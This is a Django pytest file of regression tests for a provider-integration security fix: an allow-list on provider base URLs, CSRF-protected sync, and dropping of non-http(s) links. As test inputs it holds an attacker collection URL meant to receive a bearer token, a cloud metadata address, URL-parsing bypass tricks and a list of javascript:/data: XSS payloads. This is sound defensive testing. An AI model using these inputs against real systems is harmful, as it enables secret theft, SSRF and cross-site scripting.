"""Provider URLs (issue 14's probe): where secrets may be sent, and which links show.

1. Staff could point an account's ``base_url`` at their own server, press Sync and read
   the "write-only" secrets; the worker fetched any internal URL and showed its answer in
   ``health_detail``. Now the deployment's allow-list decides, in the admin and before
   any request leaves, and health shows only our own words.
2. ``GET /admin/.../sync/`` started a sync: now it takes a POST with the CSRF token.
3. ``javascript:`` links from provider data were rendered as ``href``: now only http(s)
   links are kept by the adapters and rendered by the templates.
"""

from __future__ import annotations

import json
import re

import httpx
import pytest
import respx
from django.core import checks
from django.template.loader import render_to_string
from django.test import Client
from django.urls import reverse

from bookings import services as booking_services
from bookings.models import Booking, Status
from portal.models import User
from providers import services, tasks
from providers.adapters import adapter_for
from providers.adapters.destinations import DestinationNotAllowed
from providers.adapters.parsing import safe_url
from providers.adapters.types import AccountConfig
from providers.models import Health, Offer, ProviderAccount, Space, SyncRun
from tests.bookings.conftest import member, provider, room, tomorrow_at  # noqa: F401
from tests.providers import factories
from tests.providers.vendors.fourspaces.test_fourspaces import PERKS, answer, details, make
from tests.providers.vendors.thia.test_thia import ANSWERS, SPACE, FakeThia, thia

pytestmark = pytest.mark.django_db

SECRET = "secret-token-value"  # factories.account()'s Workways token
ATTACKER = "https://attacker.example/collect"
ECHO = "echo of your request: Authorization: Bearer " + SECRET


@pytest.fixture
def staff(db):
    return User.objects.create_superuser(email="ops@example.com", password="x-ops-9")


@pytest.fixture
def staff_client(client, staff):
    client.force_login(staff)
    return client


def change_form(account: ProviderAccount, config: dict) -> dict[str, str]:
    return {
        "kind": account.kind,
        "name": account.name,
        "enabled": "on",
        "sync_interval": "30",
        **{f"config_{name}": value for name, value in config.items()},
        "sync_runs-TOTAL_FORMS": "0",
        "sync_runs-INITIAL_FORMS": "0",
    }


def change_url(account: ProviderAccount) -> str:
    return reverse("admin:providers_provideraccount_change", args=[account.pk])


# --- 1. where an account may send its secrets -------------------------------------------


def test_staff_cannot_point_an_account_at_their_own_server(staff_client):
    account = factories.account()
    page = staff_client.post(change_url(account), change_form(account, {"base_url": ATTACKER}))
    assert page.status_code == 200  # the form again, with the error
    text = page.content.decode()
    assert "https://attacker.example/collect is not an allowed Workways API URL" in text
    assert "https://api.workways.com" in text  # the documented production URL
    assert "PROVIDER_URLS_WORKWAYS" in text
    account.refresh_from_db()
    assert account.config == {"base_url": "http://127.0.0.1:9/none"}


@pytest.mark.parametrize(
    "url",
    [
        "https://api.workways.com.attacker.example",  # another host that starts the same
        "https://api.workways.com@attacker.example",  # a user name before the real host
        "http://api.workways.com",  # plain http
        "https://api.workways.com:8443",  # another port
        "https://api.workways.com/api/%2e%2e/%2e%2e/admin",  # out of the path
    ],
)
def test_look_alike_urls_are_refused(staff_client, url):
    account = factories.account()
    page = staff_client.post(change_url(account), change_form(account, {"base_url": url}))
    assert page.status_code == 200
    assert "is not an allowed Workways API URL" in page.content.decode()


def test_the_documented_url_is_accepted(staff_client):
    account = factories.account()
    form = change_form(account, {"base_url": "https://api.workways.com"})
    assert staff_client.post(change_url(account), form).status_code == 302
    account.refresh_from_db()
    assert account.config == {"base_url": "https://api.workways.com"}
    assert account.credentials == {"token": SECRET}


def test_the_sandbox_is_allowed_only_in_development(staff_client, settings):
    account = factories.account()
    sandbox = change_form(account, {"base_url": "http://127.0.0.1:8001/workways"})
    settings.PROVIDER_ALLOW_SANDBOX = False
    refused = staff_client.post(change_url(account), sandbox)
    assert refused.status_code == 200
    assert "is not an allowed Workways API URL" in refused.content.decode()
    settings.PROVIDER_ALLOW_SANDBOX = True
    assert staff_client.post(change_url(account), sandbox).status_code == 302


def test_the_deployment_replaces_the_documented_urls(staff_client, settings):
    settings.PROVIDER_URLS = {"workways": ["https://workways.internal.example/v2"]}
    account = factories.account()
    documented = change_form(account, {"base_url": "https://api.workways.com"})
    page = staff_client.post(change_url(account), documented)
    assert page.status_code == 200
    assert "https://workways.internal.example/v2" in page.content.decode()
    own = change_form(account, {"base_url": "https://workways.internal.example/v2/"})
    assert staff_client.post(change_url(account), own).status_code == 302


def test_a_provider_whose_documents_name_no_url_needs_the_deployments_list(staff_client):
    account = ProviderAccount.objects.create(kind="zentry", name="Zentry", config={})
    url = "https://zentry.example/workspaces"
    form = change_form(account, {"workspaces_url": url, "tenant_id": "t", "user_id": "u"})
    page = staff_client.post(change_url(account), form)
    assert page.status_code == 200
    assert "PROVIDER_URLS_ZENTRY" in page.content.decode()


@pytest.mark.parametrize(
    "url",
    [
        ATTACKER,
        "http://169.254.169.254/latest/meta-data",  # a cloud's metadata service
        "http://127.0.0.1:6379/",  # a local server, with the sandbox not allowed
    ],
)
def test_an_account_saved_earlier_sends_nothing_to_a_url_not_allowed(settings, url):
    settings.PROVIDER_ALLOW_SANDBOX = False
    account = factories.account()
    ProviderAccount.objects.filter(pk=account.pk).update(config={"base_url": url})
    account.refresh_from_db()
    with respx.mock(assert_all_called=False) as mock:
        anywhere = mock.route().mock(return_value=httpx.Response(200, json={"retcode": 1}))
        run = services.sync_account(account, trigger="test")
    assert not anywhere.called  # no request left, so no secret either
    assert run.status == SyncRun.Status.FAILED
    account.refresh_from_db()
    assert account.health == Health.DEGRADED
    assert "is not an allowed Workways API URL" in account.health_detail
    assert SECRET not in account.health_detail + str(run.errors)


def test_a_request_sent_on_the_adapters_own_client_is_checked_too():
    sent: list[httpx.Request] = []
    config = AccountConfig("workways", "W", {"base_url": "https://api.workways.com"}, {})
    adapter = adapter_for(
        config, transport=httpx.MockTransport(lambda r: sent.append(r) or httpx.Response(200))
    )
    with pytest.raises(DestinationNotAllowed):
        adapter.client.get(ATTACKER, headers={"Authorization": f"Bearer {SECRET}"})
    assert sent == []
    adapter.client.get("https://api.workways.com/api/sites")
    assert len(sent) == 1


@pytest.mark.parametrize(("status", "kind"), [(401, "AuthenticationError"), (400, "RejectedError")])
def test_health_never_shows_the_providers_answer(staff_client, status, kind):
    account = factories.account()
    ProviderAccount.objects.filter(pk=account.pk).update(
        config={"base_url": "https://api.workways.com"}
    )
    account.refresh_from_db()
    body = {"retcode": -1, "message": ECHO, "error": ECHO, "detail": ECHO}
    with respx.mock(assert_all_called=False) as mock:
        mock.route(host="api.workways.com").mock(return_value=httpx.Response(status, json=body))
        run = services.sync_account(account, trigger="test")
    account.refresh_from_db()
    assert run.status == SyncRun.Status.FAILED
    assert re.fullmatch(
        rf"{kind} \(HTTP {status}\) at \d{{4}}-\d\d-\d\d \d\d:\d\d:\d\d UTC", account.health_detail
    )
    assert run.errors == [account.health_detail]
    for page in (
        staff_client.get(change_url(account)),
        staff_client.get(reverse("admin:providers_provideraccount_changelist")),
        staff_client.get(reverse("admin:providers_syncrun_change", args=[run.pk])),
    ):
        assert page.status_code == 200
        assert "echo of your request" not in page.content.decode()


def test_a_misspelt_provider_in_the_settings_stops_the_checks(settings):
    settings.PROVIDER_URLS = {"thai": ["https://thia.work/api/v1/partner"]}
    errors = checks.run_checks()
    assert [e.id for e in errors if e.id.startswith("providers.")] == ["providers.E001"]


def test_the_production_profile_warns_when_the_sandbox_is_allowed(settings):
    settings.DEBUG, settings.PROVIDER_ALLOW_SANDBOX = False, True
    warnings = checks.run_checks(include_deployment_checks=True)
    assert "providers.W001" in [w.id for w in warnings]


# --- 2. a sync is a POST with the CSRF token ----------------------------------------------


def sync_url(account: ProviderAccount) -> str:
    return reverse("admin:providers_provideraccount_sync", args=[account.pk])


def test_a_get_of_the_sync_url_changes_nothing(staff_client):
    account = factories.account()
    assert staff_client.get(sync_url(account)).status_code == 405
    assert not SyncRun.objects.exists()


def test_sync_now_posts_with_the_csrf_token(staff, monkeypatch, django_capture_on_commit_callbacks):
    sent = []
    monkeypatch.setattr(tasks.sync_provider, "delay", lambda *args: sent.append(args))
    account = factories.account()
    browser = Client(enforce_csrf_checks=True)
    browser.force_login(staff)
    assert browser.post(sync_url(account)).status_code == 403  # a forged cross-site POST
    assert not SyncRun.objects.exists()

    page = browser.get(change_url(account)).content.decode()
    button = re.search(r"<button[^>]*formaction=\"([^\"]+)\"[^>]*>Sync now</button>", page)
    assert button and button.group(1) == sync_url(account)
    assert 'formmethod="post"' in button.group(0)
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page).group(1)
    with django_capture_on_commit_callbacks(execute=True):
        response = browser.post(button.group(1), {"csrfmiddlewaretoken": token})
    assert response.status_code == 302
    run = SyncRun.objects.get()
    assert sent == [(account.pk, run.pk)]


# --- 3. only http(s) links from provider data ---------------------------------------------

UNSAFE = [
    "javascript:alert(document.cookie)",
    "JavaScript:alert(1)",
    "  javascript:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//attacker.example/x",  # no scheme: the page's own, or none
    "https:attacker.example",  # no host: a relative link in a browser
]


@pytest.mark.parametrize("url", UNSAFE)
def test_unsafe_links_are_dropped(url):
    assert safe_url(url) == ""


def test_safe_links_are_kept():
    assert safe_url(" https://space.example/a?b=c ") == "https://space.example/a?b=c"
    assert safe_url("http://space.example") == "http://space.example"
    assert safe_url("mailto:hello@space.example") == ""  # not a web page
    assert safe_url("mailto:hello@space.example", ("mailto",)) == "mailto:hello@space.example"


def test_thia_contact_links_photos_and_qr_codes_must_be_web_links():
    answers = {**ANSWERS, "/space": {"data": {**SPACE["data"]}}}
    answers["/space"]["data"].update(
        website="javascript:alert(1)",
        facebook="https://facebook.com/amazing-space",
        whatsapp_group_url="data:text/html,x",
        cover_photo="javascript:alert(2)",
    )
    [space] = thia(FakeThia(answers)).fetch_catalogue().spaces
    assert "website" not in space.contact and "whatsapp" not in space.contact
    assert space.contact["facebook"] == "https://facebook.com/amazing-space"
    assert space.contact["phone"] == "+40123456789"
    assert all(photo.startswith("https://") for photo in space.photos)
    code = {"id": "ABC123", "status": "active", "qr_code_download_url": "javascript:alert(3)"}
    assert thia(FakeThia()).code_result(code, reply={}).qr_url == ""


def test_a_4spaces_service_url_that_is_no_web_link_is_dropped():
    perks = json.loads(json.dumps(PERKS))
    perks["products"][0]["externalData"]["serviceUrl"] = "javascript:alert(1)"
    body = details(services=[perks])
    catalogue = make(answer(body)).fetch_catalogue()
    offers = [o for s in catalogue.spaces for o in s.offers]
    assert offers and all(not o.raw.get("service_url") for o in offers)


def test_links_stored_before_the_rule_are_not_rendered_on_the_space_page(client):
    unsafe = "javascript:alert(document.cookie)"
    data = factories.space(
        "x",
        contact={"website": unsafe, "phone": "+353 1 555 0100"},
        legal=[{"title": "Terms", "url": unsafe}],
    )
    services.apply_catalogue(factories.account(), factories.catalogue(data))
    page = client.get(reverse("space_detail", args=[Space.objects.get().pk])).content.decode()
    assert "+353 1 555 0100" in page and "Terms" in page
    assert "javascript:" not in page


def test_a_qr_link_stored_before_the_rule_is_not_rendered(client, member, room, provider):  # noqa: F811
    booking = booking_services.booking_create_room(
        member=member, resource=room, start=tomorrow_at(10), end=tomorrow_at(11)
    )
    assert booking_services.submit(booking.pk) == Status.CONFIRMED
    Booking.objects.filter(pk=booking.pk).update(
        access_code="1234", qr_url="javascript:alert(document.cookie)"
    )
    client.force_login(member)
    page = client.get(reverse("booking_detail", args=[booking.pk])).content.decode()
    assert "1234" in page
    assert "javascript:" not in page and "Open the QR code" not in page


def test_a_partner_link_stored_before_the_rule_is_not_rendered(client, member, room):  # noqa: F811
    offer = Offer.objects.get(external_id="a-o1")
    offer.kind, offer.raw = "service", {"service_url": "javascript:alert(1)"}
    offer.save()
    client.force_login(member)
    response = client.get(reverse("book_offer", args=[offer.pk]))
    assert response.status_code in (200, 302)
    assert "javascript:" not in response.content.decode()
    page = render_to_string(
        "bookings/external.html",
        {"item": offer, "space": offer.space, "url": "javascript:alert(1)"},
    )
    assert "javascript:" not in page and "Continue to the partner" not in page
